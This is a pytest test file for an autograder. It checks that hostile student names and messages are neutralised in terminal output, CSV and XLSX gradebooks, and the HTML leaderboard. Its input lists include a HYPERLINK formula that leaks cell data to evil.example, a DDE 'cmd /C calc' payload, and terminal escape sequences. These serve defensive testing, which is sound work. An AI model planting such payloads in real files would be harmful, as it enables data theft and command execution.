"""Student strings are data, never markup, terminal controls or formulas.

Student ids come from file and folder names, messages from student code. The red
team named submissions after spreadsheet formulas, terminal escape sequences, rich
markup, bidi overrides and zero-width twins, and recorded absurd metrics. These
tests feed such strings through every medium (terminal, CSV, XLSX, HTML) and
through ``discover()``, and check that each comes out inert and that one hostile
submission never breaks the class. No sandbox needed: stores are built directly.
"""

from __future__ import annotations

import csv
import io
import math
import os
import subprocess
import sys
import unicodedata
from pathlib import Path

import nbformat
import openpyxl
import pytest
from rich.console import Console

from grader import console
from grader.config import load_assignment
from grader.course import Course
from grader.gradebook import export, gradebook
from grader.leaderboard import leaderboard
from grader.leaderboard_render import render_table, write_html
from grader.notebook import NotebookError, read_notebook
from grader.results import SubmissionResult, SubmissionStatus, Visibility
from grader.results import TestResult as Case  # aliased: pytest would try to collect Test*
from grader.results import TestStatus as CaseStatus
from grader.spreadsheet import cell
from grader.store import ResultStore
from grader.submissions import discover, student_id
from grader.visible import make_visible

ROOT = Path(__file__).resolve().parents[2]
LAB = "lab-iris"

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click me")', '+cmd|" /C calc"!A0', "-2+3", "@SUM(1)",
            "\t=1+1", "\r=1+1", "=1+1"]
TERMINAL = ["\x1b]0;pwned\x07", "\x1b[2J\x1b[Hcleared", "[bold red]x[/]", "[link=http://evil.example]y[/link]",
            "a\u202etxt.exe", "\x9b31mC1", "back\x08\x08\x08\x08space", ":skull:"]
HIDDEN = ["alice\u200b", "bob\u2028", "carl\u00a0", "dora\ufe0f", "\u0301eve", "fay\ue000", "gil\x01"]


def rendered(renderable: object, width: int = 300) -> str:
    """What a (non-terminal) rich console writes for ``renderable``: any ESC in it came from the data."""
    c = Console(file=io.StringIO(), width=width, highlight=False, emoji=False, color_system=None)
    c.print(renderable)
    return c.file.getvalue()


def no_hidden(text: str) -> bool:
    """True if ``text`` holds no control, format or private-use character (newlines and tabs allowed)."""
    return not any(unicodedata.category(ch) in ("Cc", "Cf", "Co", "Cs") and ch not in "\n\t" for ch in text)


# --------------------------------------------------------------------------- the escaping functions


@pytest.mark.parametrize("text", TERMINAL + HIDDEN, ids=ascii)
def test_shown_is_inert_on_the_terminal(text):
    out = rendered(console.shown(text))
    assert no_hidden(out) and "\x1b" not in out
    assert out.rstrip("\n") == make_visible(text)  # markup shown literally, nothing dropped


def test_shown_names_the_characters():
    assert console.shown("\x1b]0;t\x07") == "\\x1b]0;t\\x07"
    assert console.shown("a\u202eb") == "a\\u202eb"
    assert rendered(console.shown("[bold red]x[/]")).strip() == "[bold red]x[/]"
    assert console.shown("line1\nline2", multiline=True) == "line1\nline2"
    assert console.shown("line1\nline2") == "line1\\x0aline2"
    assert console.shown("Zoë Ωmega") == "Zoë Ωmega"  # real letters are left alone


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_spreadsheet_cell_neutralises_formulas(text):
    out = cell(text)
    assert out.startswith("'") or out.startswith("\\x09") or out.startswith("\\x0d")
    assert no_hidden(out)


@pytest.mark.parametrize(("text", "expected"), [
    ("-3.5", "-3.5"), ("+7", "+7"), ("1e3", "1e3"), ("-inf", "'-inf"), ("-nan", "'-nan"), ("-1e999", "'-1e999"),
    ("alice", "alice"), ("a=b", "a=b"), ("x\x01y", "x\\x01y"), (3.5, 3.5), (None, None),
])
def test_spreadsheet_cell_keeps_real_numbers_and_plain_text(text, expected):
    assert cell(text) == expected


# --------------------------------------------------------------------------- discover()


def course_with(write_files, entries: dict[str, str | bytes]) -> tuple[Course, Path]:
    course = Course.at(write_files({
        "assignments/hw/assignment.toml": 'files = ["hw.ipynb", "hw.py"]\nreference = "hw.py"\n',
        "reference/hw/hw.py": "def f(x):\n    return x\n",
    }))
    folder = course.root / "submissions" / "hw"
    folder.mkdir(parents=True)
    for name, content in entries.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        (path.write_bytes if isinstance(content, bytes) else path.write_text)(content)
    return course, folder


OK = "def f(x):\n    return x\n"


def test_hidden_characters_give_an_invalid_visible_id(write_files):
    course, folder = course_with(write_files, {"alice/hw.py": OK, "alice\u200b.py": OK, "\x1b]0;t\x07.py": OK,
                                               "a\u202egnp.py": OK, "gil\x01.py": OK, "bob .py": OK})
    subs = {s.student: s for s in discover(folder, load_assignment(course, "hw"))}
    assert set(subs) == {"alice", "alice\\u200b", "\\x1b]0;t\\x07", "a\\u202egnp", "gil\\x01", "bob\\x20"}
    assert subs["alice"].problem is None  # the real alice is graded as usual
    for sid, sub in subs.items():
        assert no_hidden(sid) and sid == sid.strip()
        if sid != "alice":
            assert sub.problem and "rename" in sub.problem and no_hidden(sub.problem)
    assert "U+200B ZERO WIDTH SPACE" in subs["alice\\u200b"].problem
    assert "U+202E RIGHT-TO-LEFT OVERRIDE" in subs["a\\u202egnp"].problem


def test_nfc_and_nfd_twins_are_reported_not_merged(write_files):
    nfc, nfd = unicodedata.normalize("NFC", "café"), unicodedata.normalize("NFD", "café")
    course, folder = course_with(write_files, {f"{nfc}.py": OK, f"{nfd}/hw.py": OK, "zoë.py": OK})
    subs = discover(folder, load_assignment(course, "hw"))
    assert [s.student for s in subs] == [nfc, unicodedata.normalize("NFC", "zoë")]
    assert "several submissions for one student" in subs[0].problem
    assert f"{nfc}.py" in subs[0].problem and ascii(nfd) in subs[0].problem  # both entries, told apart
    assert subs[1].problem is None  # an NFD name alone is normalised and graded


def test_ids_equal_after_escaping_are_reported(write_files):
    course, folder = course_with(write_files, {"alice\u200b.py": OK, "alice\\u200b.py": OK})
    [sub] = discover(folder, load_assignment(course, "hw"))
    assert sub.student == "alice\\u200b" and "several submissions" in sub.problem


def test_undecodable_file_name_does_not_break_discover(write_files):
    course, folder = course_with(write_files, {"alice.py": OK, "bob/hw.py": OK})
    for name in (b"/\xff\xfe.py", b"/bob/\xff.txt"):  # a student, and a helper file in bob's folder
        fd = os.open(os.fsencode(folder) + name, os.O_WRONLY | os.O_CREAT)
        os.write(fd, OK.encode())
        os.close(fd)
    subs = discover(folder, load_assignment(course, "hw"))
    assert [s.student for s in subs] == ["\\udcff\\udcfe", "alice", "bob"]
    assert "SURROGATE" in subs[0].problem and subs[1].problem is None and subs[2].problem
    subs[0].student.encode("utf-8")  # storable and printable


def nested_magics(depth: int) -> str:
    return nbformat.writes(nbformat.v4.new_notebook(cells=[
        nbformat.v4.new_code_cell("%%time\n" * depth + "def f(x):\n    return x\n")]))


@pytest.mark.parametrize("depth", [600, 5000])
def test_deeply_nested_cell_magics(write_files, depth):
    course, folder = course_with(write_files, {"deep.ipynb": nested_magics(depth), "alice.py": OK})
    subs = {s.student: s for s in discover(folder, load_assignment(course, "hw"))}
    assert subs["deep"].problem is None and subs["alice"].problem is None
    assert subs["deep"].cells[0].source == "def f(x):\n    return x"


def test_read_notebook_raises_only_notebook_error():
    with pytest.raises(NotebookError):
        read_notebook('{"cells": ' + "[" * 100_000 + "]" * 100_000 + "}")


def test_unreadable_entry_is_a_problem_not_a_crash(write_files, monkeypatch):
    course, folder = course_with(write_files, {"locked/hw.py": OK, "alice.py": OK})
    real = Path.iterdir

    def iterdir(self):
        if self.name == "locked":  # a folder the grader may not list (chmod 0 does not stop root)
            raise PermissionError(13, "Permission denied", str(self))
        return real(self)

    monkeypatch.setattr(Path, "iterdir", iterdir)
    subs = {s.student: s for s in discover(folder, load_assignment(course, "hw"))}
    assert "could not be read: PermissionError" in subs["locked"].problem and subs["alice"].problem is None


def test_student_id():
    assert student_id("alice") == ("alice", [])
    assert student_id(" alice ")[0] == "\\x20alice\\x20"
    assert student_id(unicodedata.normalize("NFD", "José")) == ("José", [])


# --------------------------------------------------------------------------- gradebook exports


HOSTILE_IDS = FORMULAS + TERMINAL + HIDDEN + ["x\x0bvertical", "-3.5"]


def case(question: str, score: float, max_score: float, message: str = "") -> Case:
    status = CaseStatus.PASSED if score == max_score else CaseStatus.FAILED
    return Case(f"test_{question}", question, score, max_score, status, Visibility.HIDDEN, message)


@pytest.fixture
def hostile_store(tmp_path: Path):
    """Raw hostile ids, as a store written before ids were checked (or by another tool) would hold."""
    db = tmp_path / "grades.db"
    with ResultStore.open(db) as s:
        s.save(SubmissionResult("hw", "alice", SubmissionStatus.GRADED, tests=[case("q1", 2, 2)]))
        for i, sid in enumerate(HOSTILE_IDS):
            s.save(SubmissionResult("hw", sid, SubmissionStatus.GRADED, message=sid,
                                    tests=[case("q1", i % 3, 2, message=sid)]))
    return db


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_export_has_no_formula_and_no_illegal_character(hostile_store, tmp_path, suffix):
    with ResultStore.open(hostile_store, create=False) as s:
        df = gradebook(s, "hw")
    out = export(df, tmp_path / f"grades{suffix}")
    if suffix == ".csv":
        rows = list(csv.reader(out.open(newline="", encoding="utf-8")))
        cells = [c for row in rows for c in row]
        ids = [row[0] for row in rows[1:]]  # no "max points" row: students only
    else:
        ws = openpyxl.load_workbook(out).active
        assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
        cells = [str(c.value) for row in ws.iter_rows() for c in row if c.value is not None]
        ids = [str(row[0].value) for row in ws.iter_rows(min_row=2)]
    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) or c == "-3.5" for c in cells)
    assert all(no_hidden(c) and "\n" not in c for c in cells)
    assert len(ids) == len(HOSTILE_IDS) + 1 and len(set(ids)) == len(ids)  # twins stay apart
    assert "'=HYPERLINK(" in "".join(ids) and "alice\\u200b" in ids and "alice" in ids
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []  # no temporary left


def test_failed_export_leaves_no_partial_file(hostile_store, tmp_path, monkeypatch):
    with ResultStore.open(hostile_store, create=False) as s:
        df = gradebook(s, "hw")
    target = tmp_path / "grades.xlsx"
    target.write_bytes(b"old")

    def broken(self, *a, **k):
        Path(a[0]).write_bytes(b"partial")
        raise OSError("disk full")

    monkeypatch.setattr("pandas.DataFrame.to_excel", broken)
    with pytest.raises(OSError):
        export(df, target)
    assert target.read_bytes() == b"old" and sorted(p.name for p in tmp_path.iterdir()) == ["grades.db", "grades.xlsx"]


# --------------------------------------------------------------------------- terminal tables


def test_summary_table_gradebook_table_and_check_are_inert(hostile_store, monkeypatch):
    with ResultStore.open(hostile_store, create=False) as s:
        results = s.results("hw")
        df = gradebook(s, "hw")
    out = rendered(console.summary_table(results, "hw")) + rendered(console.gradebook_table(df, "gradebook"))
    buf = Console(file=io.StringIO(), width=300, emoji=False, color_system=None)
    monkeypatch.setattr(console, "out", buf)
    for r in results:
        console.print_check(r)
    out += buf.file.getvalue()
    assert "\x1b" not in out and no_hidden(out)
    assert "[bold red]x[/]" in out and "\\x1b]0;pwned\\x07" in out and "alice\\u200b" in out


def test_progress_bar_shows_the_current_student_escaped():
    bar = console.progress()
    task = bar.add_task("grading", total=2, current="")
    bar.update(task, current="\x1b]0;pwned\x07[bold red]x[/]")
    out = rendered(bar.make_tasks_table(bar.tasks))
    assert "\x1b" not in out and "\\x1b]0;pwned\\x07[bold red]x[/]" in out


def test_error_lines_are_inert(monkeypatch):
    buf = Console(file=io.StringIO(), width=300, emoji=False, color_system=None)
    monkeypatch.setattr(console, "err", buf)
    console.error("no submission for \x1b[2J[bold]x[/]")
    console.warn("\x1b]0;t\x07")
    assert "\x1b" not in buf.file.getvalue() and "[bold]x[/]" in buf.file.getvalue()


# --------------------------------------------------------------------------- leaderboard


def lab_metrics(acc: float = 0.9, **kw: float) -> dict[str, float]:
    return {"accuracy_mean": acc, "accuracy_std": 0.02, "n_params": 83, "train_time_s": 0.25,
            "permutation_accuracy": 0.34, "learns_from_labels": 1.0, "verified": 1.0, **kw}


@pytest.fixture
def lab_store(tmp_path: Path):
    db = tmp_path / "grades.db"
    with ResultStore.open(db) as s:
        for sid, m in {
            "honest": lab_metrics(0.95),
            "fewer": lab_metrics(0.95, n_params=50),
            "negative": lab_metrics(0.95, n_params=-1),  # would win the tie on parameters
            "huge": lab_metrics(0.96, n_params=1e30),  # crashed the board (OverflowError)
            "fractional": lab_metrics(0.96, n_params=2.5),
            "nan": lab_metrics(math.nan),
            "over": lab_metrics(1.5),
            "slow": lab_metrics(0.97, train_time_s=-3.0),
            "std": lab_metrics(0.97, accuracy_std=math.inf),
            "learns": lab_metrics(0.97, learns_from_labels=0.7),
            "\x1b]0;pwned\x07[bold]x[/]": lab_metrics(0.5),
        }.items():
            s.save(SubmissionResult(LAB, sid, SubmissionStatus.GRADED, metrics=m))
    return db


def test_invalid_metrics_unrank_the_row_and_never_break_the_board(lab_store, tmp_path):
    with ResultStore.open(lab_store, create=False) as s:
        df = leaderboard(s, LAB)
    ranked = df[df["rank"].notna()]["student"].tolist()
    assert ranked == ["fewer", "honest", "\x1b]0;pwned\x07[bold]x[/]"]
    notes = dict(zip(df["student"], df["note"], strict=True))
    for sid, text in {"negative": "invalid n_params = -1", "huge": "invalid n_params = 1e+30",
                      "fractional": "invalid n_params = 2.5", "nan": "invalid accuracy_mean = nan",
                      "over": "invalid accuracy_mean = 1.5", "slow": "invalid train_time_s = -3.0",
                      "std": "invalid accuracy_std = inf", "learns": "invalid learns_from_labels = 0.7"}.items():
        assert notes[sid].startswith("not ranked:") and text in notes[sid], (sid, notes[sid])
    assert df.set_index("student").loc["huge", "accuracy"] == 0.96  # the valid metrics still show
    out = rendered(render_table(df, title="board"))
    assert "\x1b" not in out and "\\x1b]0;pwned\\x07[bold]x[/]" in out
    page = write_html(df, tmp_path / "board.html").read_text()
    assert "\x1b" not in page and "1e+30" in page


# --------------------------------------------------------------------------- end to end


def grader(*args: str) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYTHONPATH": str(ROOT), "COLUMNS": "250"}
    return subprocess.run([sys.executable, "-m", "grader.cli", *args], capture_output=True, text=True, env=env,
                          timeout=120)


def test_end_to_end_hostile_folder(write_files, tmp_path):
    """discover() on a folder of hostile names, results stored, then the CLI's gradebook and leaderboard."""
    names = {f"{n}.py": OK for n in FORMULAS + TERMINAL + HIDDEN if "/" not in n}
    names.update({"alice/hw.py": OK, "alice\u200b.py": OK, "café.py": OK,
                  f"{unicodedata.normalize('NFD', 'café')}.py": OK})
    course, folder = course_with(write_files, names)
    subs = discover(folder, load_assignment(course, "hw"))
    db = tmp_path / "grades.db"
    with ResultStore.open(db) as s:
        for i, sub in enumerate(subs):
            status = SubmissionStatus.INVALID if sub.problem else SubmissionStatus.GRADED
            s.save(SubmissionResult("hw", sub.student, status, message=sub.problem or "",
                                    tests=[case("q1", 0 if sub.problem else 2, 2)]))
            s.save(SubmissionResult(LAB, sub.student, status, metrics=lab_metrics(0.5 + i / 100, n_params=1e30 if i == 3 else 83)))
    for suffix in (".csv", ".xlsx"):
        out = tmp_path / f"grades{suffix}"
        proc = grader("gradebook", "-a", "hw", "--db", str(db), "-o", str(out))
        assert proc.returncode == 0, proc.stderr
        if suffix == ".xlsx":
            ws = openpyxl.load_workbook(out).active
            assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
            assert ws.max_row == len(subs) + 1
        else:
            rows = list(csv.reader(out.open(newline="", encoding="utf-8")))
            assert len(rows) == len(subs) + 1
            assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for c in row)
    table = grader("gradebook", "--db", str(db))
    board = grader("leaderboard", LAB, "--db", str(db), "-o", str(tmp_path / "board.html"))
    for proc in (table, board):
        assert proc.returncode == 0, proc.stderr
        assert "\x1b" not in proc.stdout + proc.stderr and no_hidden(proc.stdout + proc.stderr)
    assert "alice\\u200b" in table.stdout and "invalid n_params = 1e+30" in board.stdout
    page = (tmp_path / "board.html").read_text()
    assert page.count("<tr") == len(subs) + 1 and "\x1b" not in page
